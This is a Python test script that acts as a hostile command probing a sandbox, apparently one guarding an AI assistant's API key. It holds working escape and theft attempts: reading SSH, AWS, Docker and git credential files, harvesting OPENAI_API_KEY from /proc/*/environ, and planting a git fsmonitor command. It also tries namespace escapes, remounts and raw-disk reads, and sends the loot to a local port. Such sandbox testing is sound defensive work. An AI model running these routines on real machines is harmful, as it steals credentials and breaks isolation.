"""What a hostile test command tries against the sandbox, as root or as a user (issue 50, item 1): every way out
the issue found and the ones next to them. Run as a script (`python attack_sandbox.py PORT`) or imported by a
conftest (`run(PORT)`); it knows nothing of the secrets it looks for: it takes whatever it can read and sends it to
127.0.0.1:PORT. Each attack's outcome ("escaped: ..." or "refused: ...") goes to tests/attack-report.json in the tree
(an existing directory: under Landlock the tree's top level takes no new entries); what it took is printed.
"""
import ctypes
import errno
import json
import os
import socket
import stat
import struct
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
HOME = os.path.expanduser("~")
GIT_CONFIG = os.path.join(HERE, ".git", "config")
CREDENTIALS = (".netrc", ".docker/config.json", ".kube/config", ".aws/credentials", ".ssh/id_ed25519",
               ".config/gh/hosts.yml", ".git-credentials", ".npmrc", ".pypirc")
FSMONITOR = "\n[core]\n\tfsmonitor = touch /tmp/pwned-by-the-test\n"
MNT_DETACH, MS_REMOUNT, MS_BIND = 2, 32, 4096
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x00020000, 0x10000000, 0x40000000
PIDFD_OPEN = 434  # the same number on every architecture
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
loot: dict = {}
report: dict = {}


def _refused(what: str) -> str:
    return f"refused: {what}: {os.strerror(ctypes.get_errno())}"


def grab(why: str) -> list:
    """Every credential file of HOME readable now, into the loot."""
    found = []
    for name in CREDENTIALS:
        try:
            with open(os.path.join(HOME, name), errors="replace") as file:
                loot[f"{why} {name}"] = file.read()
            found.append(name)
        except OSError:
            pass
    return found


def send(why: str) -> str:
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=3) as out:
            out.sendall(json.dumps({"why": why, "loot": loot}).encode())
    except OSError as exc:
        return f"refused: {exc.strerror or exc}"
    return "escaped: sent to 127.0.0.1"


def umount(path: str) -> int:
    return libc.umount2(path.encode(), MNT_DETACH)


def remount_rw(path: str) -> int:
    return libc.mount(None, path.encode(), None, MS_REMOUNT | MS_BIND, None)


def write_git_config(config: str = GIT_CONFIG) -> str:
    try:
        with open(config, "a") as out:
            out.write(FSMONITOR)
    except OSError as exc:
        return f"refused: {exc.strerror}"
    return "escaped: core.fsmonitor written"


def capabilities() -> int:
    """This process's effective and permitted capabilities, as one mask."""
    header = ctypes.create_string_buffer(struct.pack("=Ii", 0x20080522, 0), 8)
    data = ctypes.create_string_buffer(24)
    if libc.capget(header, data) < 0:
        return -1
    eff0, perm0, _, eff1, perm1, _ = struct.unpack("=6I", data.raw)
    return eff0 | perm0 | (eff1 | perm1) << 32


def attack_home() -> str:
    found = grab("home")
    return f"escaped: read {', '.join(found)}" if found else "refused: HOME is empty or unreadable"


def attack_umount_home() -> str:
    if umount(HOME) != 0:
        return _refused("umount -l HOME")
    return f"escaped: unmounted; read {', '.join(grab('umount')) or 'nothing'}"


def attack_umount_proc() -> str:
    return _refused("umount -l /proc") if umount("/proc") != 0 else "escaped: /proc unmounted"


def attack_environ() -> str:
    """The assistant's key in another process's /proc/PID/environ (this one's environment has none)."""
    try:
        pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:  # Landlock: /proc itself is not listed
        pids = []
    read, keyed = 0, []
    for pid in sorted({*pids, 1, os.getppid()}):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                text = file.read().decode("utf-8", "replace")
        except OSError:
            continue
        read += 1
        if "OPENAI_API_KEY=" in text:
            loot[f"environ {pid}"] = text
            keyed.append(f"/proc/{pid}/environ")
    if keyed:
        return f"escaped: the key in {', '.join(keyed)}"
    return f"refused: {read} environ files readable, none with the key"


def attack_remount_git() -> str:
    if remount_rw(os.path.join(HERE, ".git")) != 0:
        return _refused("mount -o remount,rw .git")
    return "escaped: .git remounted read-write"


def attack_core_pattern() -> str:
    """Opened for writing, never written: a core_pattern of '|program' runs that program as root outside."""
    for how in ("", " after a remount"):
        if how and remount_rw("/proc/sys") != 0:
            return _refused("open, then remount /proc/sys")
        try:
            os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
        except OSError:
            continue
        return f"escaped: core_pattern writable{how}"
    return "refused: read-only, even after a remount"


def attack_mknod() -> str:
    node = os.path.join(HERE, "tests", "disk")
    try:
        os.mknod(node, stat.S_IFBLK | 0o600, os.stat(HERE).st_dev)
    except OSError as exc:
        return f"refused: {exc.strerror}"
    os.unlink(node)
    return "escaped: made the disk's device node"


def attack_raw_devices() -> str:
    """A disk, loop or swap device read whole: every file on it, the hidden HOME's included."""
    try:
        names = os.listdir("/dev")
    except OSError as exc:
        return f"refused: {exc.strerror}"
    for name in sorted(names):
        path = os.path.join("/dev", name)
        try:
            if not stat.S_ISBLK(os.stat(path).st_mode):
                continue
            with open(path, "rb") as device:
                device.read(512)
        except OSError:
            continue
        return f"escaped: read {path}"
    return "refused: no block device readable"


def attack_nested_userns() -> str:
    """unshare -Urm, then what root may do in its own namespaces: unmount, remount, bind the tree without its .git."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        outcome = "refused: unshare"
        try:
            uid = os.getuid()
            if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
                try:
                    with open("/proc/self/uid_map", "w") as mapping:
                        mapping.write(f"0 {uid} 1")
                except OSError:
                    pass  # unmapped, still every capability in the new namespace
                done, failed = [], []
                scratch = tempfile.mkdtemp()
                for what, call in (("umount HOME", lambda: umount(HOME)), ("umount /proc", lambda: umount("/proc")),
                                   ("remount .git", lambda: remount_rw(os.path.join(HERE, ".git"))),
                                   ("bind the tree without its .git",
                                    lambda: libc.mount(HERE.encode(), scratch.encode(), None, MS_BIND, None))):
                    if call() == 0:
                        done.append(what)
                    else:
                        failed.append(f"{what}: {errno.errorcode.get(ctypes.get_errno(), '?')}")
                bound = "bind the tree without its .git" in done
                if bound and write_git_config(os.path.join(scratch, ".git", "config")).startswith("escaped"):
                    done.append("wrote .git/config")
                done += [f"read {name}" for name in grab("userns")]
                outcome = f"escaped: {', '.join(done)}" if done else f"refused: unshared, then {', '.join(failed)}"
            else:
                outcome = _refused("unshare")
        finally:
            os.write(write_end, outcome.encode())
            os._exit(0)
    os.close(write_end)
    os.waitpid(pid, 0)
    with os.fdopen(read_end) as pipe:
        return pipe.read()


def attack_capabilities() -> str:
    mine = capabilities()
    show = (f"import sys; sys.path.insert(0, {HERE!r}); import attack_sandbox; "
            "print(f'{attack_sandbox.capabilities():x}')")
    child = subprocess.run([sys.executable, "-c", show], capture_output=True, text=True, check=False).stdout.strip()
    if mine or child not in ("0", ""):
        return f"escaped: capabilities {mine:x}, after exec {child}"
    return "refused: no capability, none after exec either"


def attack_nsenter() -> str:
    """Into another network namespace (PID 1's, or any process's that /proc shows: the host's once /proc is
    unmounted), then home."""
    try:
        mine = os.readlink("/proc/self/ns/net")
        pids = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    except OSError:
        mine, pids = "", []
    fds = []
    for pid in dict.fromkeys([1, *pids]):
        try:
            if os.readlink(f"/proc/{pid}/ns/net") != mine:
                fds.append(os.open(f"/proc/{pid}/ns/net", os.O_RDONLY))
        except OSError:
            continue
    pidfd = libc.syscall(ctypes.c_long(PIDFD_OPEN), ctypes.c_int(1), ctypes.c_uint(0))  # PID 1 by number
    fds += [pidfd] if pidfd >= 0 else []
    if not fds:
        return _refused("no namespace to open")
    entered = False
    for fd in fds:
        entered = entered or libc.setns(fd, CLONE_NEWNET) == 0
        os.close(fd)
    if not entered:
        return _refused("setns")
    return f"escaped: setns into another network namespace; {send('nsenter')}"


ATTACKS = {"read HOME's credentials": attack_home, "capabilities, after exec too": attack_capabilities,
           "open core_pattern for writing": attack_core_pattern, "remount .git read-write": attack_remount_git,
           "write .git/config": write_git_config, "mknod the disk in the tree": attack_mknod,
           "read a raw disk or swap device": attack_raw_devices, "unshare -Urm, then umount": attack_nested_userns,
           "umount -l HOME": attack_umount_home, "umount -l /proc": attack_umount_proc,
           "read /proc/*/environ outside": attack_environ, "send to 127.0.0.1": lambda: send("direct"),
           "nsenter another network namespace": attack_nsenter}


def run(port: int) -> dict:
    global PORT
    PORT = port
    for name, attack in ATTACKS.items():
        try:
            report[name] = attack()
        except Exception as exc:  # noqa: BLE001 - an attack that breaks is one that did not get out
            report[name] = f"refused: {type(exc).__name__}: {exc}"
    with open(os.path.join(HERE, "tests", "attack-report.json"), "w") as out:
        json.dump(report, out, indent=1)
    print("LOOT", json.dumps(loot))
    return report


if __name__ == "__main__":
    run(int(sys.argv[1]))
